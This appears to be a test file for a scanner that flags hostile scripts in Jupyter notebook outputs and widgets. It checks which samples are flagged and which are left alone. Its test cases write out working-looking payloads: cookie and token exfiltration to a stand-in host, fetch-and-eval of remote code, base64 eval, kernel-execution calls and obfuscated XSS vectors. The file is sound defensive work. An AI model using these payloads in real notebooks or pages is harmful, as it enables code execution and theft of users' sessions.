@@ -1,0 +1,155 @@
+// What a notebook shows when it is opened: scripts in outputs, widgets and attachments go through the reader of programs.
+import { describe, expect, it } from 'vitest';
+import type { Finding } from '../../../src/core/finding.ts';
+import { inspectBytes } from '../../support/inspect.ts';
+
+const shown = (data: object, metadata: object = {}): string =>
+  JSON.stringify(
+    {
+      cells: [
+        { cell_type: 'markdown', metadata: {}, source: ['# Report\n'] },
+        {
+          cell_type: 'code',
+          execution_count: 1,
+          metadata: {},
+          outputs: [{ output_type: 'display_data', metadata: {}, data }],
+          source: [],
+        },
+      ],
+      metadata,
+      nbformat: 4,
+      nbformat_minor: 5,
+    },
+    null,
+    1,
+  );
+
+async function toldOf(text: string): Promise<readonly Finding[]> {
+  const { findings } = await inspectBytes(Buffer.from(text), 'report.ipynb');
+  return findings.filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW');
+}
+
+const rulesOf = async (text: string): Promise<string[]> => (await toldOf(text)).map(({ rule }) => rule);
+const lineOf = (text: string, word: string): number =>
+  text.split('\n').findIndex((line) => line.includes(word)) + 1;
+
+const KERNEL = 'NOTEBOOK-OUTPUT-KERNEL';
+const HTML = 'text/html';
+const SCRIPT = 'application/javascript';
+const encoded = (text: string): string => Buffer.from(text).toString('base64');
+
+describe('a script in an output', () => {
+  it.each([
+    [SCRIPT, 'var n = Jupyter.notebook; var k = n.kernel; k.execute("1")', KERNEL],
+    [SCRIPT, 'window["IPython"]["notebook"]["kernel"]["execute"]("1")', KERNEL],
+    [SCRIPT, 'Jupyter.notebook.ker\\u006eel.execute("1")', KERNEL],
+    [SCRIPT, 'function f(s) { s.kernel.requestExecute({ code: "1" }) }', KERNEL],
+    [SCRIPT, 'window.jupyterapp.commands.execute("notebook:run-all-cells")', KERNEL],
+    [SCRIPT, 'fetch("/ap" + "i/terminals", { method: "POST" })', KERNEL],
+    [SCRIPT, 'var d = document; new Image().src = "https://c.example.invalid/?" + d["coo" + "kie"]', KERNEL],
+    [SCRIPT, 'navigator.sendBeacon("https://c.example.invalid/", localStorage.getItem("token"))', KERNEL],
+    [
+      SCRIPT,
+      'var x = new XMLHttpRequest(); x.open("POST", "//c.example.invalid"); x.send(sessionStorage.t)',
+      KERNEL,
+    ],
+    [
+      SCRIPT,
+      'fetch("https://c.example.invalid/x.js").then(r => r.text()).then(eval)',
+      'CODE-DOWNLOAD-EXECUTE',
+    ],
+    [SCRIPT, `eval(atob("${encoded('document.title = 1; alert(2)')}"))`, 'CODE-DECODE-EXECUTE'],
+    [SCRIPT, 'require(["https://c.example.invalid/a.js"])', 'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT'],
+    [HTML, '<p>1</p><script>\nIPython.notebook.kernel.execute("1")\n</script>', KERNEL],
+    [
+      HTML,
+      '<script>if (1 < 2) { fetch("https://c.example.invalid/x").then(r => r.text()).then(eval) }',
+      'CODE-DOWNLOAD-EXECUTE',
+    ],
+    [HTML, '<img src=x onerror="IPython.notebook.kernel.execute(1)">', KERNEL],
+    [HTML, '<img src=x onerror="eval(atob(&quot;YWxlcnQoMSk7YWxlcnQoMik=&quot;))">', 'CODE-DECODE-EXECUTE'],
+    [HTML, '<a href="java&#115;cript:IPython.notebook.kernel.execute(1)">more</a>', KERNEL],
+    [
+      HTML,
+      '<iframe srcdoc="&lt;script&gt;parent.IPython.notebook.kernel.execute(1)&lt;/script&gt;">',
+      KERNEL,
+    ],
+    [
+      HTML,
+      `<script src="data:text/javascript;base64,${encoded('IPython.notebook.kernel.execute(1)')}"></script>`,
+      KERNEL,
+    ],
+    [HTML, '<a href="ja&Tab;va&#10;script:IPython.notebook.kernel.execute(1)">more</a>', KERNEL],
+    [HTML, '<a data-commandlinker-command="notebook:run-all-cells" href="#">more</a>', KERNEL],
+    [
+      'image/svg+xml',
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="Jupyter.notebook.kernel.execute(1)"></svg>',
+      KERNEL,
+    ],
+    [
+      'image/svg+xml',
+      '<svg><script xlink:href="https://c.example.invalid/a.js"/></svg>',
+      'NOTEBOOK-OUTPUT-FOREIGN-SCRIPT',
+    ],
+  ])('is judged once: %s %s', async (type, text, rule) => {
+    expect(await rulesOf(shown({ [type]: [text] }))).toEqual([rule]);
+  });
+
+  it.each([
+    [SCRIPT, 'element.text("done"); localStorage.setItem("a", "b")'],
+    [SCRIPT, 'fetch("/static/a.json", { method: "POST", body: JSON.stringify(localStorage) })'],
+    [SCRIPT, 'setTimeout(function() { Plotly.newPlot("a", [{ "x": [1] }]) }, 10)'],
+    [HTML, '<script type="application/json">{"a": "Jupyter.notebook.kernel.execute"}</script>'],
+    [HTML, '<p>Jupyter.notebook.kernel.execute(1)</p><script>render()</script>'],
+    [HTML, '<button onclick="show(this)">+</button><img src="data:image/png;base64,iVBORw0KGgo=">'],
+    [HTML, '<script>async function f(k) { await google.colab.kernel.invokeFunction("f", [k], {}) }</script>'],
+    ['text/plain', '<script>IPython.notebook.kernel.execute(1)</script>'],
+  ])('is let be: %s %s', async (type, text) => {
+    expect(await rulesOf(shown({ [type]: [text] }))).toEqual([]);
+  });
+
+  it.each([
+    ['by its words', 'IPython.notebook.kernel.execute(1)'],
+    ['by its names', 'var k = IPython["notebook"].kernel; k["execute"](1)'],
+    ['by the rules for programs', 'fetch("https://c.example.invalid/x").then(r => r.text()).then(eval)'],
+  ])('stands on the line of what it does, told %s', async (_, harm) => {
+    const text = shown({ [SCRIPT]: ['// one\n', 'draw();\n', `${harm}\n`, 'draw();\n'] });
+    const told = await toldOf(text);
+    expect(told).toHaveLength(1);
+    expect(told[0]?.location).toMatchObject({ line: lineOf(text, '1)') || lineOf(text, 'eval'), cell: 2 });
+  });
+
+  it('is told apart from what a library does in the same output', async () => {
+    const bokeh = [
+      `const cmd_destroy = "import bokeh.io.notebook as ion; ion.destroy_server('" + server_id + "')";\n`,
+      '  cell.notebook.kernel.execute(cmd_destroy);\n',
+    ];
+    expect(await rulesOf(shown({ [SCRIPT]: bokeh }))).toEqual([]);
+    const text = shown({ [SCRIPT]: [...bokeh, 'cell.notebook["kernel"].execute("2 + 2")\n'] });
+    expect((await toldOf(text)).map(({ location }) => location.line)).toEqual([lineOf(text, '2 + 2')]);
+  });
+
+  it('is judged in the text of a widget, on its line', async () => {
+    const state = {
+      a: {
+        model_name: 'HTMLModel',
+        state: { value: '<b onclick="Jupyter.notebook.kernel.execute(1)">x</b>' },
+      },
+    };
+    const text = shown({}, { widgets: { 'application/vnd.jupyter.widget-state+json': { state } } });
+    expect(await toldOf(text)).toMatchObject([{ rule: KERNEL, location: { line: lineOf(text, 'onclick') } }]);
+  });
+
+  it('costs no more than its length, and says what of it was only searched', async () => {
+    const library = `function a(){${'b=b<c?eval("d"):fetch(e);'.repeat(60_000)}}`;
+    const text = shown({ [HTML]: [`<script>${library}</script><script>draw()</script>`] });
+    const { findings } = await inspectBytes(Buffer.from(text), 'report.ipynb');
+    expect(findings.map(({ rule, severity }) => `${severity} ${rule}`)).toEqual([
+      'INFO NOTEBOOK-OUTPUT-SCRIPT',
+    ]);
+    const worse = shown({
+      [HTML]: [`<script>${library}</script><script>IPython.notebook.kernel.execute(1)</script>`],
+    });
+    expect(await rulesOf(worse)).toEqual([KERNEL]);
+  });
+});
